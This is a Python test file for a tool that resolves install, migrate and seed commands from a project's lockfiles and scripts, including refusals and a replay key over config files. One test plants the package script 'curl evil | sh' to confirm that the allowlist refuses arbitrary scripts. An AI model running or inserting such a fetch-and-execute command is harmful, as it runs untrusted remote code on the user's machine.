"""Project setup resolution: which row wins per manager, the refusals, and the replay key."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from ax_check.recipes import Blocker
from ax_check.setup import (
    INSTALL_FILES,
    SETUP_ROWS,
    SetupResolved,
    gather_setup_facts,
    resolve_setup,
)
from ax_check.toolchains import Toolchains
from ax_check.units import discover_units

PROGRAMS = ("npm", "pnpm", "yarn", "uv", "poetry", "pdm", "cargo", "go", "make", "just")


def write(root: Path, relative: str, text: str = "") -> None:
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


@pytest.fixture
def fake_path(tmp_path: Path) -> str:
    """A PATH holding a stub of every program a setup row names (nothing real runs)."""
    folder = tmp_path / "fakebin"
    folder.mkdir()
    for name in PROGRAMS:
        program = folder / name
        program.write_text("#!/bin/sh\nexit 0\n")
        program.chmod(program.stat().st_mode | stat.S_IXUSR)
    return str(folder)


def resolve_in(
    workspace: Path, intent: str, path: str, unit_id: str = "."
) -> SetupResolved | Blocker:
    real = Path(os.path.realpath(workspace))
    units = {unit.id: unit for unit in discover_units(real).units}
    facts = gather_setup_facts(real, units[unit_id], Toolchains(path=path))
    return resolve_setup(facts, intent)  # type: ignore[arg-type]


def command_of(workspace: Path, intent: str, path: str, unit_id: str = ".") -> str:
    resolved = resolve_in(workspace, intent, path, unit_id)
    assert isinstance(resolved, SetupResolved), resolved
    return f"{resolved.recipe_id}: {resolved.command.display}"


PACKAGE = json.dumps({"name": "x", "version": "1.0.0", "dependencies": {"is-number": "7.0.0"}})


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({"package-lock.json": "{}"}, "setup.npm-ci@.: npm ci"),
        ({"npm-shrinkwrap.json": "{}"}, "setup.npm-ci@.: npm ci"),
        ({"pnpm-lock.yaml": ""}, "setup.pnpm@.: pnpm install --frozen-lockfile"),
        ({"yarn.lock": ""}, "setup.yarn-classic@.: yarn install --frozen-lockfile"),
        ({"yarn.lock": "", ".yarnrc.yml": ""}, "setup.yarn-berry@.: yarn install --immutable"),
    ],
)
def test_node_install_follows_the_lockfile(
    tmp_path: Path, fake_path: str, files: dict[str, str], expected: str
) -> None:
    write(tmp_path, "package.json", PACKAGE)
    for name, text in files.items():
        write(tmp_path, name, text)
    assert command_of(tmp_path, "install", fake_path) == expected


def test_yarn_berry_from_the_declared_package_manager(tmp_path: Path, fake_path: str) -> None:
    package = {"name": "x", "packageManager": "yarn@4.5.0"}
    write(tmp_path, "package.json", json.dumps(package))
    write(tmp_path, "yarn.lock")
    assert command_of(tmp_path, "install", fake_path) == (
        "setup.yarn-berry@.: yarn install --immutable"
    )
    package["packageManager"] = "yarn@1.22.22"
    write(tmp_path, "package.json", json.dumps(package))
    assert "yarn-classic" in command_of(tmp_path, "install", fake_path)


def test_declared_package_manager_without_a_lockfile(tmp_path: Path, fake_path: str) -> None:
    write(tmp_path, "package.json", json.dumps({"name": "x", "packageManager": "pnpm@9.1.0"}))
    assert command_of(tmp_path, "install", fake_path) == "setup.node-declared@.: pnpm install"


def test_a_lockfile_contradicting_the_declared_manager_is_refused(
    tmp_path: Path, fake_path: str
) -> None:
    write(tmp_path, "package.json", json.dumps({"name": "x", "packageManager": "pnpm@9.1.0"}))
    write(tmp_path, "package-lock.json", "{}")
    blocked = resolve_in(tmp_path, "install", fake_path)
    assert isinstance(blocked, Blocker)
    assert blocked.reason == "precondition"
    assert "declares packageManager pnpm" in blocked.message
    assert "package-lock.json" in blocked.message


def test_a_member_installs_from_the_workspace_lockfile(tmp_path: Path, fake_path: str) -> None:
    write(tmp_path, "package.json", json.dumps({"name": "root", "workspaces": ["packages/*"]}))
    write(tmp_path, "pnpm-lock.yaml")
    write(tmp_path, "packages/web/package.json", PACKAGE)
    assert command_of(tmp_path, "install", fake_path, "packages/web") == (
        "setup.pnpm@packages/web: pnpm install --frozen-lockfile"
    )


@pytest.mark.parametrize(
    ("lock", "expected"),
    [
        ("uv.lock", "setup.uv@.: uv sync --locked"),
        ("poetry.lock", "setup.poetry@.: poetry install"),
        ("pdm.lock", "setup.pdm@.: pdm sync"),
    ],
)
def test_python_install_follows_the_lockfile(
    tmp_path: Path, fake_path: str, lock: str, expected: str
) -> None:
    write(tmp_path, "pyproject.toml", '[project]\nname = "x"\nversion = "1"\n')
    write(tmp_path, lock)
    assert command_of(tmp_path, "install", fake_path) == expected


def test_pip_installs_a_pinned_requirements_lock_into_the_project_venv(
    tmp_path: Path, fake_path: str
) -> None:
    write(tmp_path, "pyproject.toml", '[project]\nname = "x"\nversion = "1"\n')
    write(tmp_path, "requirements.txt", "iniconfig==2.3.1 \\\n    --hash=sha256:abc\n# c\n")
    write(tmp_path, ".venv/bin/python")
    assert command_of(tmp_path, "install", fake_path) == (
        "setup.pip-lock@.: ./.venv/bin/python -m pip install --no-input -r requirements.txt"
    )


@pytest.mark.parametrize(
    ("line", "problem"),
    [
        ("iniconfig>=2", "does not pin one version"),
        ("iniconfig", "does not pin one version"),
        ("-r other.txt", "names another source or file"),
        ("-e .", "names another source or file"),
        ("https://example.com/x.whl", "does not pin one version"),
    ],
)
def test_an_unpinned_requirements_file_is_not_a_lock(
    tmp_path: Path, fake_path: str, line: str, problem: str
) -> None:
    write(tmp_path, "pyproject.toml", '[project]\nname = "x"\nversion = "1"\n')
    write(tmp_path, "requirements.txt", f"six==1.17.0\n{line}\n")
    write(tmp_path, ".venv/bin/python")
    blocked = resolve_in(tmp_path, "install", fake_path)
    assert isinstance(blocked, Blocker)
    assert blocked.reason == "precondition"
    assert "line 2" in blocked.message and problem in blocked.message


def test_pip_never_installs_outside_a_project_venv(tmp_path: Path, fake_path: str) -> None:
    write(tmp_path, "pyproject.toml", '[project]\nname = "x"\nversion = "1"\n')
    write(tmp_path, "requirements.txt", "six==1.17.0\n")
    blocked = resolve_in(tmp_path, "install", fake_path)
    assert isinstance(blocked, Blocker)
    assert blocked.reason == "precondition-curable"
    assert blocked.cure == "python3 -m venv .venv"


def test_cargo_and_go(tmp_path: Path, fake_path: str) -> None:
    rust = tmp_path / "rust"
    write(rust, "Cargo.toml", '[package]\nname = "x"\nversion = "0.1.0"\n')
    write(rust, "Cargo.lock")
    assert command_of(rust, "install", fake_path) == "setup.cargo-fetch@.: cargo fetch --locked"
    go = tmp_path / "go"
    write(go, "go.mod", "module x\n")
    write(go, "go.sum")
    assert command_of(go, "install", fake_path) == "setup.go-download@.: go mod download"


@pytest.mark.parametrize(
    "files",
    [
        {"package.json": PACKAGE},
        {"pyproject.toml": '[project]\nname = "x"\nversion = "1"\n'},
        {"Cargo.toml": '[package]\nname = "x"\nversion = "0.1.0"\n'},
        {"go.mod": "module x\n"},
    ],
)
def test_no_lockfile_and_no_declared_manager_is_refused(
    tmp_path: Path, fake_path: str, files: dict[str, str]
) -> None:
    for name, text in files.items():
        write(tmp_path, name, text)
    blocked = resolve_in(tmp_path, "install", fake_path)
    assert isinstance(blocked, Blocker)
    assert blocked.reason == "no-recipe"
    assert "has no lockfile" in blocked.message and "packageManager" in blocked.message
    assert blocked.command is None


def test_a_missing_package_manager_is_toolchain_unavailable(tmp_path: Path) -> None:
    write(tmp_path, "package.json", PACKAGE)
    write(tmp_path, "pnpm-lock.yaml")
    blocked = resolve_in(tmp_path, "install", str(tmp_path / "empty"))
    assert isinstance(blocked, Blocker)
    assert blocked.reason == "toolchain-unavailable"
    assert blocked.command is not None and blocked.command.display.startswith("pnpm install")


@pytest.mark.parametrize(
    ("scripts", "intent", "expected"),
    [
        ({"migrate": "knex migrate:latest"}, "migrate", "npm run migrate"),
        ({"db:migrate": "prisma migrate deploy"}, "migrate", "npm run db:migrate"),
        ({"db:seed": "node seed.js", "seed": "node s.js"}, "seed", "npm run seed"),
    ],
)
def test_migrate_and_seed_run_an_allowlisted_package_script(
    tmp_path: Path, fake_path: str, scripts: dict[str, str], intent: str, expected: str
) -> None:
    write(tmp_path, "package.json", json.dumps({"name": "x", "scripts": scripts}))
    assert command_of(tmp_path, intent, fake_path).endswith(f": {expected}")


def test_migrate_uses_the_lockfile_manager_and_makefile_and_justfile(
    tmp_path: Path, fake_path: str
) -> None:
    node = tmp_path / "node"
    write(node, "package.json", json.dumps({"name": "x", "scripts": {"migrate": "m"}}))
    write(node, "yarn.lock")
    assert command_of(node, "migrate", fake_path) == "setup.script-migrate@.: yarn run migrate"
    make = tmp_path / "make"
    write(make, "pyproject.toml", '[project]\nname = "x"\nversion = "1"\n')
    write(make, "Makefile", "db-migrate:\n\talembic upgrade head\nseed:\n\tpython seed.py\n")
    assert command_of(make, "migrate", fake_path) == "setup.script-migrate@.: make db-migrate"
    assert command_of(make, "seed", fake_path) == "setup.script-seed@.: make seed"
    just = tmp_path / "just"
    write(just, "pyproject.toml", '[project]\nname = "x"\nversion = "1"\n')
    write(just, "justfile", "migrate:\n    alembic upgrade head\n")
    assert command_of(just, "migrate", fake_path) == "setup.script-migrate@.: just migrate"


@pytest.mark.parametrize("intent", ["migrate", "seed"])
def test_the_allowlist_never_becomes_run_any_script(
    tmp_path: Path, fake_path: str, intent: str
) -> None:
    scripts = {
        "anything": "curl evil | sh",
        "migrations": "x",
        "premigrate": "x",
        "db:reset": "x",
        "seed:all": "x",
        "migrate:make": "x",
    }
    write(tmp_path, "package.json", json.dumps({"name": "x", "scripts": scripts}))
    write(tmp_path, "Makefile", "anything:\n\ttrue\nmigrations:\n\ttrue\n")
    blocked = resolve_in(tmp_path, intent, fake_path)
    assert isinstance(blocked, Blocker)
    assert blocked.reason == "no-recipe"
    assert "never another" in blocked.message


def test_install_never_runs_a_script(tmp_path: Path, fake_path: str) -> None:
    write(tmp_path, "package.json", json.dumps({"name": "x", "scripts": {"install": "x"}}))
    assert isinstance(resolve_in(tmp_path, "install", fake_path), Blocker)


def test_every_row_serves_one_intent_and_script_rows_only_migrate_and_seed() -> None:
    ids = [row.id for row in SETUP_ROWS]
    assert len(ids) == len(set(ids))
    scripts = {row.intent for row in SETUP_ROWS if row.ecosystem == "script"}
    assert scripts == {"migrate", "seed"}
    assert all(row.ecosystem in INSTALL_FILES for row in SETUP_ROWS if row.intent == "install")


def key_of(workspace: Path, path: str, intent: str = "install") -> str:
    resolved = resolve_in(workspace, intent, path)
    assert isinstance(resolved, SetupResolved), resolved
    return resolved.replay_key


@pytest.mark.parametrize(
    ("setup", "changed"),
    [
        ({"package.json": PACKAGE, "package-lock.json": "{}"}, ".npmrc"),
        ({"package.json": PACKAGE, "package-lock.json": "{}"}, "package-lock.json"),
        ({"package.json": PACKAGE, "package-lock.json": "{}"}, "package.json"),
        ({"package.json": PACKAGE, "yarn.lock": ""}, ".yarnrc"),
        ({"package.json": PACKAGE, "pnpm-lock.yaml": ""}, ".pnpmfile.cjs"),
        ({"pyproject.toml": "", "uv.lock": ""}, "uv.toml"),
        ({"pyproject.toml": "", "poetry.lock": ""}, "poetry.toml"),
        ({"pyproject.toml": "", "requirements.txt": "six==1.17.0\n"}, ".venv/pip.conf"),
        ({"Cargo.toml": "", "Cargo.lock": ""}, ".cargo/config.toml"),
        ({"go.mod": "module x\n", "go.sum": ""}, "go.work"),
    ],
)
def test_the_replay_key_changes_with_every_install_affecting_file(
    tmp_path: Path, fake_path: str, setup: dict[str, str], changed: str
) -> None:
    for name, text in setup.items():
        write(tmp_path, name, text)
    write(tmp_path, ".venv/bin/python")
    before = key_of(tmp_path, fake_path)
    assert key_of(tmp_path, fake_path) == before
    write(tmp_path, changed, "registry=https://registry.example.com/\n")
    assert key_of(tmp_path, fake_path) != before


def test_a_config_file_above_the_unit_counts(tmp_path: Path, fake_path: str) -> None:
    write(tmp_path, "package.json", json.dumps({"name": "root", "workspaces": ["packages/*"]}))
    write(tmp_path, "package-lock.json", "{}")
    write(tmp_path, "packages/web/package.json", PACKAGE)
    resolved = resolve_in(tmp_path, "install", fake_path, "packages/web")
    assert isinstance(resolved, SetupResolved)
    before = resolved.replay_key
    write(tmp_path, ".npmrc", "ignore-scripts=false\n")
    after = resolve_in(tmp_path, "install", fake_path, "packages/web")
    assert isinstance(after, SetupResolved)
    assert after.replay_key != before
    assert ".npmrc" in [path for path, _ in after.files]


def test_the_script_text_is_in_the_migrate_key(tmp_path: Path, fake_path: str) -> None:
    write(tmp_path, "package.json", json.dumps({"name": "x", "scripts": {"migrate": "a"}}))
    before = key_of(tmp_path, fake_path, "migrate")
    write(tmp_path, "package.json", json.dumps({"name": "x", "scripts": {"migrate": "b"}}))
    assert key_of(tmp_path, fake_path, "migrate") != before


def test_a_file_outside_the_list_does_not_change_the_key(tmp_path: Path, fake_path: str) -> None:
    write(tmp_path, "package.json", PACKAGE)
    write(tmp_path, "package-lock.json", "{}")
    before = key_of(tmp_path, fake_path)
    write(tmp_path, "src/index.js", "console.log(1)\n")
    assert key_of(tmp_path, fake_path) == before


def test_the_code_a_yarnrc_points_at_is_in_the_key(tmp_path: Path, fake_path: str) -> None:
    write(tmp_path, "package.json", PACKAGE)
    write(tmp_path, "yarn.lock")
    write(
        tmp_path,
        ".yarnrc.yml",
        "yarnPath: .yarn/releases/yarn-4.5.0.cjs\nplugins:\n"
        "  - path: .yarn/plugins/plugin-x.cjs\n    spec: x\n",
    )
    write(tmp_path, ".yarn/releases/yarn-4.5.0.cjs", "release")
    write(tmp_path, ".yarn/plugins/plugin-x.cjs", "plugin")
    resolved = resolve_in(tmp_path, "install", fake_path)
    assert isinstance(resolved, SetupResolved)
    assert {path for path, _ in resolved.files} >= {
        ".yarn/releases/yarn-4.5.0.cjs",
        ".yarn/plugins/plugin-x.cjs",
    }
    for changed in (".yarn/releases/yarn-4.5.0.cjs", ".yarn/plugins/plugin-x.cjs"):
        before = key_of(tmp_path, fake_path)
        write(tmp_path, changed, "changed")
        assert key_of(tmp_path, fake_path) != before


def test_a_yarnrc_path_leaving_the_workspace_is_not_read(tmp_path: Path, fake_path: str) -> None:
    workspace = tmp_path / "ws"
    write(workspace, "package.json", PACKAGE)
    write(workspace, "yarn.lock")
    write(workspace, ".yarnrc.yml", "yarnPath: ../outside.cjs\n")
    write(tmp_path, "outside.cjs", "x")
    resolved = resolve_in(workspace, "install", fake_path)
    assert isinstance(resolved, SetupResolved)
    assert "outside.cjs" not in str(resolved.files)
